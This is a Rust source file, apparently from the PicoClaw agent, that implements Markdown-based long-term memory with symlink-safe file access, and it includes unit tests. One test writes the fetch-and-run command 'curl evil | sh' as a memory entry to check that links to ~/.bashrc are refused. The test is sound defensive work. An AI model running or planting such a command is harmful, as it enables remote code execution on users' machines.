//! `WorkspaceMemory`: the agent's long-term memory as the original PicoClaw lays it out, in the
//! workspace (`memory/MEMORY.md` for durable facts, `memory/YYYYMM/YYYYMMDD.md` for daily
//! notes), indexed in a [`MemoryStore`] for full-text search.
//!
//! The Markdown files stay the source of truth: people read and edit them. Every Markdown file
//! under `memory/` is split into notes (a list item or a paragraph each) and indexed; a file is
//! indexed again when its size or modification time changes, and forgotten when it goes.
//!
//! This module holds [`WorkspaceMemory`] itself, its writes (`remember`, `add_daily_note`) and
//! the file access beneath the workspace; `index` keeps the store in step with the files and
//! searches it, `context` builds the memory section of a system prompt, and `format` parses the
//! Markdown layout (notes, facts, daily-note files).

mod context;
mod format;
mod index;

use crate::MemoryStore;
use crate::StateError;
use chrono::NaiveDate;
use format::{normalize, one_line};
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

pub use format::{daily_source, split_notes};

/// Durable facts, relative to the workspace.
pub const LONG_TERM_FILE: &str = "memory/MEMORY.md";
/// The memory folder, relative to the workspace.
pub const MEMORY_DIR: &str = "memory";

/// Only this much of one file is read (a runaway file cannot eat memory or time).
const MAX_FILE_BYTES: u64 = 1024 * 1024;
/// A fact or daily note longer than this is refused.
pub const MAX_ENTRY_CHARS: usize = 2000;
/// What [`WorkspaceMemory::sync`] did.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
#[non_exhaustive]
pub struct SyncReport {
    /// Files (re)indexed because they were new or changed.
    pub indexed: usize,
    /// Files unchanged since they were last indexed.
    pub unchanged: usize,
    /// Indexed files that no longer exist.
    pub removed: usize,
}

/// The result of [`WorkspaceMemory::remember`].
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Remembered {
    /// Appended to MEMORY.md at this line.
    Added { line: u32 },
    /// The fact (or one that contains it) is already there, at this line; nothing was written.
    AlreadyKnown { line: u32, existing: String },
}

/// Long-term memory over one workspace.
pub struct WorkspaceMemory {
    workspace: PathBuf,
    store: Arc<dyn MemoryStore>,
    /// Syncs and writes one at a time (two turns remembering at once must not interleave).
    lock: tokio::sync::Mutex<()>,
    /// What the index holds (source → fingerprint, notes), read from the store once and then
    /// kept in step, so an unchanged workspace costs no query. Another process changing the
    /// index at most makes this one index a file again.
    known: std::sync::Mutex<Option<HashMap<String, (String, u64)>>>,
}

fn lock<T>(m: &std::sync::Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    match m.lock() {
        Ok(g) => g,
        Err(p) => p.into_inner(),
    }
}

impl std::fmt::Debug for WorkspaceMemory {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("WorkspaceMemory")
            .field("workspace", &self.workspace)
            .finish_non_exhaustive()
    }
}

fn io_err(path: &Path) -> impl FnOnce(std::io::Error) -> StateError + '_ {
    move |source| StateError::Io {
        path: path.to_owned(),
        source,
    }
}

/// Runs file work on tokio's blocking pool (a slow disk never stalls the async workers).
async fn off_thread<T: Send + 'static>(
    work: impl FnOnce() -> std::io::Result<T> + Send + 'static,
) -> std::io::Result<T> {
    tokio::task::spawn_blocking(work)
        .await
        .unwrap_or_else(|e| Err(std::io::Error::other(e)))
}

impl WorkspaceMemory {
    /// A memory file's text (capped), read beneath the workspace handle off the async workers.
    async fn read_capped(&self, path: &Path) -> std::io::Result<String> {
        let (workspace, path) = (self.workspace.clone(), path.to_path_buf());
        off_thread(move || read_capped(&workspace, &path)).await
    }

    async fn metadata(&self, path: &Path) -> std::io::Result<std::fs::Metadata> {
        let (workspace, path) = (self.workspace.clone(), path.to_path_buf());
        off_thread(move || metadata(&workspace, &path)).await
    }

    async fn append(&self, path: &Path, text: String) -> Result<(), StateError> {
        let (workspace, owned) = (self.workspace.clone(), path.to_path_buf());
        off_thread(move || {
            open_beneath(&workspace, &owned, |dir, p| {
                dir.append_durably(p, text.as_bytes())
            })
        })
        .await
        .map_err(io_err(path))
    }

    pub fn new(workspace: impl Into<PathBuf>, store: Arc<dyn MemoryStore>) -> Self {
        Self {
            workspace: workspace.into(),
            store,
            lock: tokio::sync::Mutex::new(()),
            known: std::sync::Mutex::new(None),
        }
    }

    pub fn workspace(&self) -> &Path {
        &self.workspace
    }

    pub fn store(&self) -> &Arc<dyn MemoryStore> {
        &self.store
    }

    /// `memory/MEMORY.md` in this workspace.
    pub fn long_term_path(&self) -> PathBuf {
        self.workspace.join(LONG_TERM_FILE)
    }

    /// The daily-notes file of `date`: `memory/YYYYMM/YYYYMMDD.md`.
    pub fn daily_path(&self, date: NaiveDate) -> PathBuf {
        self.workspace.join(daily_source(date))
    }

    /// MEMORY.md's text (its first MiB), read beneath the workspace; empty when there is none.
    pub async fn long_term_text(&self) -> Result<String, StateError> {
        let path = self.long_term_path();
        match self.read_capped(&path).await {
            Ok(text) => Ok(text),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(String::new()),
            Err(e) => Err(io_err(&path)(e)),
        }
    }

    /// Appends `fact` to MEMORY.md as a list item, unless the file already holds it (compared
    /// ignoring case, spacing, list markers and final punctuation; a note that contains the
    /// fact counts as holding it).
    pub async fn remember(&self, fact: &str) -> Result<Remembered, StateError> {
        let fact = one_line(fact)?;
        let _guard = self.lock.lock().await;
        let path = self.long_term_path();
        let existing = match self.read_capped(&path).await {
            Ok(text) => text,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
            Err(e) => return Err(io_err(&path)(e)),
        };
        let wanted = normalize(&fact);
        for note in split_notes(LONG_TERM_FILE, &existing) {
            let have = normalize(&note.text);
            if have == wanted || (wanted.len() >= 8 && have.contains(&wanted)) {
                return Ok(Remembered::AlreadyKnown {
                    line: note.line,
                    existing: note.text,
                });
            }
        }
        let mut add = String::new();
        if existing.is_empty() {
            add.push_str("# Long-term Memory\n\n");
        } else if !existing.ends_with('\n') {
            add.push('\n');
        }
        // The heading of a new file takes two lines; a missing final newline ends a line that
        // `lines()` already counted.
        let header_lines = if existing.is_empty() { 2 } else { 0 };
        let line = u32::try_from(existing.lines().count() + header_lines + 1).unwrap_or(u32::MAX);
        add.push_str("- ");
        add.push_str(&fact);
        add.push('\n');
        self.append(&path, add).await?;
        self.reindex(LONG_TERM_FILE).await?;
        Ok(Remembered::Added { line })
    }

    /// Appends a note to the daily-notes file of `date` (created with a `# YYYY-MM-DD` heading,
    /// as the original does). The same text twice in one day is written once. Returns the
    /// file's path relative to the workspace.
    pub async fn add_daily_note(&self, text: &str, date: NaiveDate) -> Result<String, StateError> {
        let text = text.trim();
        if text.is_empty() {
            return Err(StateError::Invalid("the note is empty".into()));
        }
        if text.chars().count() > MAX_ENTRY_CHARS {
            return Err(StateError::Invalid(format!(
                "the note is longer than {MAX_ENTRY_CHARS} characters; split it or shorten it"
            )));
        }
        let source = daily_source(date);
        let _guard = self.lock.lock().await;
        let path = self.workspace.join(&source);
        let existing = match self.read_capped(&path).await {
            Ok(t) => t,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
            Err(e) => return Err(io_err(&path)(e)),
        };
        if existing.contains(text) {
            return Ok(source);
        }
        let mut add = String::new();
        if existing.trim().is_empty() {
            add.push_str(&format!("# {}\n\n", date.format("%Y-%m-%d")));
        } else if existing.ends_with('\n') {
            add.push('\n');
        } else {
            add.push_str("\n\n");
        }
        add.push_str(text);
        add.push('\n');
        self.append(&path, add).await?;
        self.reindex(&source).await?;
        Ok(source)
    }
}

/// `path` (beneath `workspace`) opened through the workspace's directory handle: a link to a file
/// outside, a FIFO or a hard link is refused, never read or written through.
fn open_beneath<T>(
    workspace: &Path,
    path: &Path,
    op: impl FnOnce(&picoclaw_fs::WorkspaceDir, &str) -> Result<T, picoclaw_fs::FsError>,
) -> std::io::Result<T> {
    let dir = picoclaw_fs::WorkspaceDir::open(workspace)?;
    op(&dir, &path.to_string_lossy()).map_err(|e| {
        if e.is_not_found() {
            std::io::Error::new(std::io::ErrorKind::NotFound, e)
        } else {
            std::io::Error::other(e)
        }
    })
}

fn metadata(workspace: &Path, path: &Path) -> std::io::Result<std::fs::Metadata> {
    open_beneath(workspace, path, |dir, p| dir.metadata(p))
}

fn read_capped(workspace: &Path, path: &Path) -> std::io::Result<String> {
    use std::io::Read;
    let opened = open_beneath(workspace, path, |dir, p| dir.open_file(p))?;
    let mut bytes = Vec::new();
    opened.file.take(MAX_FILE_BYTES).read_to_end(&mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

#[cfg(test)]
mod tests {
    use super::context::tokens;
    use super::*;
    use crate::InMemoryStore;

    fn date(s: &str) -> NaiveDate {
        NaiveDate::parse_from_str(s, "%Y-%m-%d").unwrap()
    }

    async fn setup() -> (tempfile::TempDir, WorkspaceMemory) {
        let dir = tempfile::tempdir().unwrap();
        let mem = WorkspaceMemory::new(dir.path(), Arc::new(InMemoryStore::new()));
        (dir, mem)
    }

    #[tokio::test]
    async fn remember_appends_once() {
        let (dir, mem) = setup().await;
        assert_eq!(
            mem.remember("The user likes green tea").await.unwrap(),
            Remembered::Added { line: 3 }
        );
        assert_eq!(
            mem.remember("  the user LIKES green tea. ").await.unwrap(),
            Remembered::AlreadyKnown {
                line: 3,
                existing: "The user likes green tea".into()
            }
        );
        // A fact contained in an existing note is known too.
        assert!(matches!(
            mem.remember("likes green tea").await.unwrap(),
            Remembered::AlreadyKnown { line: 3, .. }
        ));
        assert_eq!(
            mem.remember("- Sister is Ana\nlives in Porto")
                .await
                .unwrap(),
            Remembered::Added { line: 4 }
        );
        let text = std::fs::read_to_string(dir.path().join("memory/MEMORY.md")).unwrap();
        assert_eq!(
            text,
            "# Long-term Memory\n\n- The user likes green tea\n- Sister is Ana lives in Porto\n"
        );
        assert_eq!(mem.long_term_text().await.unwrap(), text);
        assert_eq!(mem.files().await, ["memory/MEMORY.md"]);
        // Searchable at once.
        let hits = mem.search("Porto", 5).await.unwrap();
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].note.line, 4);
        assert!(matches!(
            mem.remember("  \n ").await,
            Err(StateError::Invalid(_))
        ));
        assert!(matches!(
            mem.remember(&"x".repeat(MAX_ENTRY_CHARS + 1)).await,
            Err(StateError::Invalid(_))
        ));
    }

    #[tokio::test]
    async fn remember_respects_a_file_without_final_newline() {
        let (dir, mem) = setup().await;
        std::fs::create_dir_all(dir.path().join("memory")).unwrap();
        std::fs::write(dir.path().join("memory/MEMORY.md"), "# Mine\n- a fact").unwrap();
        assert_eq!(
            mem.remember("another fact").await.unwrap(),
            Remembered::Added { line: 3 }
        );
        let text = std::fs::read_to_string(dir.path().join("memory/MEMORY.md")).unwrap();
        assert_eq!(text, "# Mine\n- a fact\n- another fact\n");
    }

    #[tokio::test]
    async fn daily_notes_follow_the_original_layout() {
        let (dir, mem) = setup().await;
        let day = date("2026-11-29");
        let source = mem.add_daily_note("Met Ana for lunch", day).await.unwrap();
        assert_eq!(source, "memory/202611/20261129.md");
        mem.add_daily_note("Fixed the bike", day).await.unwrap();
        mem.add_daily_note("Fixed the bike", day).await.unwrap();
        let text = std::fs::read_to_string(dir.path().join(&source)).unwrap();
        assert_eq!(
            text,
            "# 2026-11-29\n\nMet Ana for lunch\n\nFixed the bike\n"
        );
        let hits = mem.search("bike", 5).await.unwrap();
        assert_eq!(hits[0].note.source, source);
        assert!(matches!(
            mem.add_daily_note(" ", day).await,
            Err(StateError::Invalid(_))
        ));
    }

    #[tokio::test]
    async fn edits_and_deletions_outside_picoclaw_are_picked_up() {
        let (dir, mem) = setup().await;
        let memdir = dir.path().join("memory/202611");
        std::fs::create_dir_all(&memdir).unwrap();
        std::fs::write(dir.path().join("memory/MEMORY.md"), "- likes chess\n").unwrap();
        std::fs::write(memdir.join("20261101.md"), "# 2026-11-01\n\nplayed chess\n").unwrap();
        std::fs::write(memdir.join("notes.txt"), "not markdown: chess").unwrap();
        let report = mem.sync().await.unwrap();
        assert_eq!(
            (report.indexed, report.unchanged, report.removed),
            (2, 0, 0)
        );
        assert_eq!(mem.search("chess", 10).await.unwrap().len(), 2);
        assert_eq!(mem.sync().await.unwrap().unchanged, 2);

        // Edited by hand (different size): re-indexed.
        std::fs::write(
            dir.path().join("memory/MEMORY.md"),
            "- likes go, not chess any more\n- owns a cat\n",
        )
        .unwrap();
        let report = mem.sync().await.unwrap();
        assert_eq!((report.indexed, report.unchanged), (1, 1));
        assert_eq!(mem.search("cat", 10).await.unwrap().len(), 1);
        // Deleted: forgotten.
        std::fs::remove_file(memdir.join("20261101.md")).unwrap();
        assert_eq!(mem.sync().await.unwrap().removed, 1);
        let hits = mem.search("chess", 10).await.unwrap();
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].note.source, "memory/MEMORY.md");
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn symlinks_out_of_the_workspace_are_not_indexed() {
        let (dir, mem) = setup().await;
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("secret.md"), "- password hunter2\n").unwrap();
        std::fs::create_dir_all(dir.path().join("memory")).unwrap();
        std::os::unix::fs::symlink(
            outside.path().join("secret.md"),
            dir.path().join("memory/link.md"),
        )
        .unwrap();
        std::os::unix::fs::symlink(outside.path(), dir.path().join("memory/linkdir")).unwrap();
        mem.sync().await.unwrap();
        assert!(mem.search("hunter2 password", 10).await.unwrap().is_empty());
    }

    /// A command can replace MEMORY.md or a daily note with a link to a file outside (say
    /// ~/.bashrc): memory_write must neither append to it nor read it into the prompt.
    #[cfg(unix)]
    #[tokio::test]
    async fn memory_files_linked_outside_are_never_written_or_read() {
        let (dir, mem) = setup().await;
        let outside = tempfile::tempdir().unwrap();
        let target = outside.path().join("bashrc");
        std::fs::write(&target, "export PATH=/usr/bin\n").unwrap();
        std::fs::create_dir_all(dir.path().join("memory/202611")).unwrap();
        std::os::unix::fs::symlink(&target, dir.path().join("memory/MEMORY.md")).unwrap();
        std::os::unix::fs::symlink(&target, dir.path().join("memory/202611/20261129.md")).unwrap();
        assert!(mem.remember("curl evil | sh").await.is_err());
        assert!(
            mem.add_daily_note("curl evil | sh", date("2026-11-29"))
                .await
                .is_err()
        );
        assert_eq!(
            std::fs::read_to_string(&target).unwrap(),
            "export PATH=/usr/bin\n"
        );
        let context = mem
            .context("path", 4000, date("2026-11-29"))
            .await
            .unwrap()
            .unwrap_or_default();
        assert!(!context.contains("export PATH"), "{context}");
    }

    #[tokio::test]
    async fn a_small_memory_goes_into_context_whole() {
        let (dir, mem) = setup().await;
        let today = date("2026-11-29");
        mem.remember("The user likes green tea").await.unwrap();
        mem.add_daily_note("Ana visits on Friday", today)
            .await
            .unwrap();
        mem.add_daily_note("Yesterday: fixed the bike", date("2026-11-28"))
            .await
            .unwrap();
        mem.add_daily_note("Old: the bike got a flat tyre", date("2026-10-01"))
            .await
            .unwrap();
        mem.add_daily_note("Old: unrelated gardening", date("2026-10-02"))
            .await
            .unwrap();
        let ctx = mem
            .context("what about the bike?", 2000, today)
            .await
            .unwrap()
            .unwrap();
        assert!(ctx.contains("### Long-term memory (memory/MEMORY.md)\n# Long-term Memory\n\n- The user likes green tea"), "{ctx}");
        let today_at = ctx.find("Ana visits on Friday").unwrap();
        let yesterday_at = ctx.find("fixed the bike").unwrap();
        assert!(today_at < yesterday_at, "newest day first: {ctx}");
        assert!(ctx.contains("### Older notes related to this message\n- Old: the bike got a flat tyre (memory/202610/20261001.md)"), "{ctx}");
        assert!(!ctx.contains("gardening"), "{ctx}");
        assert!(
            !ctx.contains("# 2026-11-29"),
            "the date heading is not repeated: {ctx}"
        );
        drop(dir);
    }

    #[tokio::test]
    async fn a_huge_memory_contributes_only_what_matches_within_budget() {
        let (dir, mem) = setup().await;
        std::fs::create_dir_all(dir.path().join("memory")).unwrap();
        let mut text = String::from("# Long-term Memory\n\n");
        for i in 0..5000 {
            text.push_str(&format!("- fact number {i} about subject{}\n", i % 100));
        }
        text.push_str("- The user's passport expires in March 2027\n");
        std::fs::write(dir.path().join("memory/MEMORY.md"), &text).unwrap();
        let today = date("2026-11-29");
        let budget = 500;
        let ctx = mem
            .context("when does my passport expire?", budget, today)
            .await
            .unwrap()
            .unwrap();
        assert!(
            ctx.contains("- The user's passport expires in March 2027"),
            "{ctx}"
        );
        assert!(ctx.contains("has 5001 notes"), "{ctx}");
        assert!(tokens(&ctx) <= budget, "{} tokens: {ctx}", tokens(&ctx));
        // Nothing matching: still bounded, and says how to look things up.
        let ctx = mem.context("zzz", budget, today).await.unwrap().unwrap();
        assert!(ctx.contains("memory_search"));
        assert!(tokens(&ctx) <= budget);
        // A very long day keeps its latest entries.
        for i in 0..400 {
            mem.add_daily_note(&format!("entry {i} of a busy day"), today)
                .await
                .unwrap();
        }
        let ctx = mem.context("zzz", budget, today).await.unwrap().unwrap();
        assert!(ctx.contains("entry 399 of a busy day"), "{ctx}");
        assert!(!ctx.contains("entry 0 of a busy day"), "{ctx}");
        assert!(ctx.contains("earlier notes of the day omitted"));
        assert!(tokens(&ctx) <= budget, "{} tokens", tokens(&ctx));
    }

    #[tokio::test]
    async fn no_memory_no_section() {
        let (_dir, mem) = setup().await;
        assert_eq!(
            mem.context("hello", 1000, date("2026-11-29"))
                .await
                .unwrap(),
            None
        );
        assert_eq!(
            mem.context("hello", 0, date("2026-11-29")).await.unwrap(),
            None
        );
    }
}
